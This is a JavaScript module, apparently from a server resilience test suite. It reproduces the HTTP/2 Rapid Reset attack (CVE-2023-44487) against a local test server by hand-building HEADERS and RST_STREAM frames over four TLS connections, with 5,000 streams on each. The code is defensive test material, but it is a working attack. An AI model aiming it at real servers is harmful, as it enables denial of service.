import { once } from 'node:events';
import { connect } from 'node:tls';
import { generate } from 'selfsigned';
import { times } from '../clients.mjs';

const frameType = { headers: 1, reset: 3, settings: 4 };
const [endStream, endHeaders] = [1, 4];
const preface = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  frame(frameType.settings, 0, 0, Buffer.alloc(0)),
]);

/** Streams of HTTP/2 that are asked for and reset in the same breath (CVE-2023-44487): each at once, or some streams later. */
const resetting = (name, late, when) => ({
  name,
  title: `4 connections ask for 5,000 streams each over HTTP/2, and reset each ${when}`,

  async options() {
    const { private: key, cert } = await generate([{ name: 'commonName', value: 'localhost' }], {
      keySize: 2_048,
    });
    return { tls: { key, cert } };
  },

  async play(target) {
    const sockets = await Promise.all(times(4, () => open(target.port)));
    const block = headerBlock({
      ':method': 'GET',
      ':scheme': 'https',
      ':authority': 'localhost',
      ':path': '/push/events?topic=news.x',
    });
    const streams = await Promise.all(
      sockets.map(async (socket) => {
        let sent = 0;
        for (; sent < 5_000 && !socket.destroyed; sent += 100) {
          const hundred = times(100, (n) => {
            const id = 2 * (sent + n) + 1;
            const headers = frame(frameType.headers, endStream | endHeaders, id, block);
            const reset = 2 * (sent + n - late) + 1;
            if (reset < 1) return headers;
            return Buffer.concat([headers, frame(frameType.reset, 0, reset, Buffer.from([0, 0, 0, 8]))]);
          });
          if (!socket.write(Buffer.concat(hundred))) await drained(socket);
        }
        return sent;
      }),
    );
    for (const socket of sockets) socket.destroy();
    return { note: `${streams.reduce((sum, each) => sum + each)} streams sent` };
  },
});

export const rapidReset = resetting('rapid-reset', 0, 'at once');
export const lateReset = resetting('late-reset', 50, '50 streams later');

/** Resolves when there is room again, or when the server has had enough. */
function drained(socket) {
  return new Promise((resolve) => {
    const done = () => {
      socket.off('drain', done).off('close', done);
      resolve();
    };
    socket.on('drain', done).on('close', done);
  });
}

async function open(port) {
  const socket = connect({ host: '127.0.0.1', port, ALPNProtocols: ['h2'], rejectUnauthorized: false });
  socket.on('error', () => undefined).resume();
  await once(socket, 'secureConnect');
  socket.write(preface);
  return socket;
}

/** RFC 9113, section 4.1. */
function frame(type, flags, stream, payload) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Literal fields that nothing indexes (RFC 7541, section 6.2.2); each shorter than 127 bytes. */
function headerBlock(fields) {
  const text = (value) => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);
  return Buffer.concat(
    Object.entries(fields).flatMap(([name, value]) => [Buffer.from([0]), text(name), text(value)]),
  );
}
